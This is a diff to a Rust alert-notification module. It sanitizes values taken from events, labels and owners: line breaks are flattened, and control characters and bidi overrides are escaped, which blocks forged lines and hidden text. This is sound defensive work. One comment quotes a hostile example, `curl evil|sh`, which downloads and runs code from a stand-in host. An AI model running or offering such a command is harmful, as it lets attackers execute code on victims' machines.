@@ -1,6 +1,11 @@
 //! The default message texts, shared by e-mail, Slack, PagerDuty and syslog:
 //! what happened, who and what is affected, the evidence, a link to the
 //! alert in Ward and the rule's runbook.
+//!
+//! Every value taken from events, labels, rules or people goes through
+//! [`one_line`] (or [`block`] for descriptions): a line break in a label or
+//! an owner contact cannot forge a line such as `Runbook: curl evil|sh`,
+//! and control characters and bidi overrides cannot hide text.
 
 use std::fmt::Write;
 
@@ -15,6 +20,43 @@ const AFFECTED: [(&str, &str); 6] = [
     ("repository", "repository"),
     ("source.ip", "source ip"),
 ];
+
+/// Whether a character must not reach a text notification as it is: C0
+/// and C1 controls, DEL, and the bidi overrides and isolates.
+fn is_unsafe(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}' | '\u{2028}' | '\u{2029}')
+}
+
+fn escape(s: &str, keep_newlines: bool) -> String {
+    if !s.chars().any(is_unsafe) {
+        return s.to_owned();
+    }
+    let mut out = String::with_capacity(s.len() + 8);
+    for c in s.chars() {
+        match c {
+            '\n' if keep_newlines => out.push('\n'),
+            '\n' | '\r' | '\t' | '\u{2028}' | '\u{2029}' => out.push(' '),
+            c if is_unsafe(c) => {
+                let _ = write!(out, "\\u{{{:x}}}", c as u32);
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// A single-line field: line breaks become spaces, other controls and bidi
+/// overrides visible escapes.
+pub fn one_line(s: &str) -> String {
+    escape(s, false)
+}
+
+/// A multi-line field (a rule's description): line breaks kept, every
+/// other control escaped.
+pub fn block(s: &str) -> String {
+    escape(s, true)
+}
 
 /// One-line summary, e.g. `[FIRING:2] Brute force (high) — owner payments`.
 pub fn title(n: &Notification) -> String {
@@ -34,14 +76,14 @@ pub fn title(n: &Notification) -> String {
     };
     let mut t = format!(
         "{head} {} ({})",
-        first.rule_title,
+        one_line(&first.rule_title),
         n.max_severity().as_str()
     );
     if n.alerts.len() > 1 {
         let _ = write!(t, " and {} more", n.alerts.len() - 1);
     }
     if let Some(owner) = &first.owner {
-        let _ = write!(t, " — owner {owner}");
+        let _ = write!(t, " — owner {}", one_line(owner));
     }
     t
 }
@@ -50,7 +92,11 @@ pub fn title(n: &Notification) -> String {
 pub fn affected(a: &AlertSummary) -> String {
     let parts: Vec<String> = AFFECTED
         .iter()
-        .filter_map(|(label, name)| a.labels.get(*label).map(|v| format!("{name} {v}")))
+        .filter_map(|(label, name)| {
+            a.labels
+                .get(*label)
+                .map(|v| format!("{name} {}", one_line(v)))
+        })
         .collect();
     if parts.is_empty() {
         "not known".into()
@@ -79,28 +125,33 @@ pub fn text(n: &Notification) -> String {
         let _ = writeln!(
             out,
             "{} — {} ({}, {})",
-            a.rule_title,
-            a.id,
+            one_line(&a.rule_title),
+            one_line(&a.id),
             a.severity.as_str(),
             a.status.as_str()
         );
         if !a.description.is_empty() {
-            let _ = writeln!(out, "What happened: {}", a.description.trim());
+            let _ = writeln!(out, "What happened: {}", block(a.description.trim()));
         }
         let _ = writeln!(out, "Affected: {}", affected(a));
         match &a.owner {
             Some(o) if a.owner_contacts.is_empty() => {
-                let _ = writeln!(out, "Owner: {o}");
+                let _ = writeln!(out, "Owner: {}", one_line(o));
             }
             Some(o) => {
-                let _ = writeln!(out, "Owner: {o} ({})", a.owner_contacts.join(", "));
+                let _ = writeln!(
+                    out,
+                    "Owner: {} ({})",
+                    one_line(o),
+                    one_line(&a.owner_contacts.join(", "))
+                );
             }
             None => {
                 let _ = writeln!(out, "Owner: none registered (coverage gap)");
             }
         }
         if let Some(who) = &a.assignee {
-            let _ = writeln!(out, "Assignee: {who}");
+            let _ = writeln!(out, "Assignee: {}", one_line(who));
         }
         let more = a.evidence_total.saturating_sub(a.evidence.len());
         let _ = writeln!(
@@ -110,7 +161,7 @@ pub fn text(n: &Notification) -> String {
             a.first_seen,
             a.last_seen,
             a.count,
-            a.evidence.join(", "),
+            one_line(&a.evidence.join(", ")),
             if more > 0 {
                 format!(" and {more} more")
             } else {
@@ -118,9 +169,9 @@ pub fn text(n: &Notification) -> String {
             }
         );
         if let Some(r) = &a.runbook {
-            let _ = writeln!(out, "Runbook: {r}");
+            let _ = writeln!(out, "Runbook: {}", one_line(r));
         }
-        let _ = writeln!(out, "Open in Ward: {}", a.url);
+        let _ = writeln!(out, "Open in Ward: {}", one_line(&a.url));
     }
     out
 }
